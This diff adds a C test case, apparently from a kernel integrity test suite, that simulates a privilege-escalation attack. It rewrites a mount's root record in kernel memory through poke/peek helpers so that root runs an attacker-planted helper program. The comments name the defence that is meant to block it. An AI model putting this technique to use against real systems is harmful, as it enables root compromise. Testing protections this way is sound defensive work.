@@ -1,0 +1,41 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: The file system on which root has its helper is bent to show a directory of the attacker.
+ * Stops it: What a mount shows, and where, is read from its sealed record.
+ * Without: Root runs the attacker's program.
+ */
+#include "helper_program.h"
+
+ATTACK("cred_integrity", "mount_other_root", "LOST",
+       "The file system on which root has its helper is bent to show a directory of the attacker.",
+       "What a mount shows, and where, is read from its sealed record.",
+       "Root runs the attacker's program.");
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+static bool fire(void)
+{
+	const uint64_t path = member("file.path");
+	uint64_t shown, place;
+
+	make_own_program();
+	call2(__NR_mkdir, (long)"/tmp/place", 0755);
+	call2(__NR_rename, (long)MINE, (long)"/tmp/place/helper");
+	place = dentry_of(call3(__NR_open, (long)"/tmp/place", O_RDONLY | O_DIRECTORY, 0));
+	shown = file_struct(own_task(),
+			    (int)call3(__NR_open, (long)"/work", O_RDONLY | O_DIRECTORY, 0));
+	poke(peek(shown + path + member("path.mount")) + member("mount.root"), place);
+	wait_for_root();
+	return false;
+}
+
+static void victim(void)
+{
+	call2(__NR_mkdir, (long)"/work", 0755);
+	call5(__NR_mount, (long)"none", (long)"/work", (long)"tmpfs", 0, 0);
+	make_helper();
+	run_helper(HELPER);
+}
